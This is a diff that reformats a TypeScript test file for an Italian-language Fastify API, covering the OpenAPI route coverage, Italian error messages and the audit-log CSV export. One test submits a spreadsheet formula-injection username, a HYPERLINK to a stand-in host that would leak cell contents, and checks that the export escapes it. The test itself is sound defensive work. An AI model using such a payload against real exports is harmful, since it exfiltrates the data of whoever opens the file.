@@ -17,8 +17,12 @@ describe('health', () => {
 
 describe('the OpenAPI document', () => {
   it('describes every API route the app registers', async () => {
-    const doc = (await ctx.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as { paths: Record<string, Record<string, unknown>> };
-    const documented = new Set(Object.entries(doc.paths).flatMap(([path, methods]) => Object.keys(methods).map((m) => `${m.toUpperCase()} ${path}`)));
+    const doc = (await ctx.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
+      paths: Record<string, Record<string, unknown>>;
+    };
+    const documented = new Set(
+      Object.entries(doc.paths).flatMap(([path, methods]) => Object.keys(methods).map((m) => `${m.toUpperCase()} ${path}`)),
+    );
     const registered = ctx.app.apiRoutes.filter((route) => route.url !== '/api/openapi.json');
     expect(registered.length).toBeGreaterThan(25);
     for (const route of registered) {
@@ -38,12 +42,27 @@ describe('errors', () => {
     const unknown = await ctx.app.inject({ method: 'GET', url: '/api/nothing-here' });
     expect(unknown.statusCode).toBe(404);
     expect(unknown.headers['content-type']).toContain('application/problem+json');
-    const malformed = await ctx.app.inject({ method: 'POST', url: '/api/auth/login', headers: { 'content-type': 'application/json' }, payload: '{"username":' });
+    const malformed = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/auth/login',
+      headers: { 'content-type': 'application/json' },
+      payload: '{"username":',
+    });
     expect(malformed.statusCode).toBe(400);
     expect(malformed.json()).toMatchObject({ status: 400, type: 'about:blank' });
-    const huge = await ctx.app.inject({ method: 'POST', url: '/api/auth/login', headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ username: 'x'.repeat(2_000_000), password: 'y' }) });
+    const huge = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/auth/login',
+      headers: { 'content-type': 'application/json' },
+      payload: JSON.stringify({ username: 'x'.repeat(2_000_000), password: 'y' }),
+    });
     expect(huge.statusCode).toBe(413);
-    const wrongType = await ctx.app.inject({ method: 'POST', url: '/api/auth/login', headers: { 'content-type': 'text/xml' }, payload: '<a/>' });
+    const wrongType = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/auth/login',
+      headers: { 'content-type': 'text/xml' },
+      payload: '<a/>',
+    });
     expect(wrongType.statusCode).toBe(415);
   });
 
@@ -55,7 +74,11 @@ describe('errors', () => {
     const longParam = await ctx.app.inject({ method: 'PATCH', url: `/api/ptris/${'x'.repeat(101)}`, payload: {} });
     expect(longParam.statusCode).toBe(414);
     expect(longParam.headers['content-type']).toContain('application/problem+json');
-    expect(longParam.json()).toMatchObject({ status: 414, title: 'Indirizzo troppo lungo', detail: "Un parametro dell'indirizzo è troppo lungo" });
+    expect(longParam.json()).toMatchObject({
+      status: 414,
+      title: 'Indirizzo troppo lungo',
+      detail: "Un parametro dell'indirizzo è troppo lungo",
+    });
   });
 
   it('say in Italian what is wrong, field by field, including the checks of zod and Fastify themselves', async () => {
@@ -72,7 +95,8 @@ describe('errors', () => {
     ];
     expect(refusals.map((r) => r.statusCode)).toEqual([400, 400, 400, 400, 400, 413, 415]);
     const details = refusals.map((r) => r.json().detail as string);
-    for (const detail of details) expect(detail).not.toMatch(/\b(Invalid|expected|received|Too big|Unrecognized|Body|Request|cannot|Unsupported)\b/);
+    for (const detail of details)
+      expect(detail).not.toMatch(/\b(Invalid|expected|received|Too big|Unrecognized|Body|Request|cannot|Unsupported)\b/);
     const person = refusals[0]!.json().errors as { path: string; message: string }[];
     expect(person).toContainEqual({ path: 'fiscalCode', message: 'campo obbligatorio' });
     expect(person.find((e) => e.path === 'givenName')?.message).toMatch(/^Input non valido/);
@@ -89,7 +113,9 @@ describe('errors', () => {
 describe('the access log', () => {
   it('is readable by admin and manager, filtered, and reading it is itself logged', async () => {
     const admin = await ctx.as('admin');
-    await (await ctx.as('cm.navile'))({ method: 'GET', url: '/api/persons' });
+    await (
+      await ctx.as('cm.navile')
+    )({ method: 'GET', url: '/api/persons' });
     const res = await admin({ method: 'GET', url: '/api/audit?entity=person_search' });
     expect(res.statusCode).toBe(200);
     expect(res.json().items).toEqual([expect.objectContaining({ username: 'cm.navile', action: 'read', entity: 'person_search' })]);
@@ -113,16 +139,26 @@ describe('the access log', () => {
   });
 
   it('exports every matching row in batches, newest first, and writes texts that look like formulas as text', async () => {
-    const insert = ctx.db.$client.prepare("INSERT INTO audit_log (at, username, action, entity, ip) VALUES (?, 'bulk', 'read', 'person_search', '10.0.0.1')");
+    const insert = ctx.db.$client.prepare(
+      "INSERT INTO audit_log (at, username, action, entity, ip) VALUES (?, 'bulk', 'read', 'person_search', '10.0.0.1')",
+    );
     ctx.db.$client.transaction(() => {
       for (let i = 0; i < 2_500; i++) insert.run(`2026-01-01T00:00:${String(i % 60).padStart(2, '0')}Z`);
     })();
-    await ctx.app.inject({ method: 'POST', url: '/api/auth/login', headers: { 'content-type': 'application/json' }, payload: { username: '=HYPERLINK("http://x.example/?"&A1)', password: 'nope' } });
+    await ctx.app.inject({
+      method: 'POST',
+      url: '/api/auth/login',
+      headers: { 'content-type': 'application/json' },
+      payload: { username: '=HYPERLINK("http://x.example/?"&A1)', password: 'nope' },
+    });
     const admin = await ctx.as('admin');
     const csv = await admin({ method: 'GET', url: '/api/audit?format=csv' });
     expect(csv.statusCode).toBe(200);
     const lines = csv.body.split('\r\n').slice(1).filter(Boolean);
-    const expected = ctx.db.$client.prepare('SELECT id FROM audit_log WHERE action != ? ORDER BY id DESC').pluck().all('export') as number[];
+    const expected = ctx.db.$client
+      .prepare('SELECT id FROM audit_log WHERE action != ? ORDER BY id DESC')
+      .pluck()
+      .all('export') as number[];
     const ids = lines.map((line) => Number(line.split(';')[0]));
     // Every row but the export's own, each once, newest first, across three batches of 1,000.
     expect(ids.length).toBeGreaterThan(2_500);
@@ -131,4 +167,3 @@ describe('the access log', () => {
     expect(failed).toContain(`;"'=HYPERLINK(""http://x.example/?""&A1)";`);
   });
 });
-
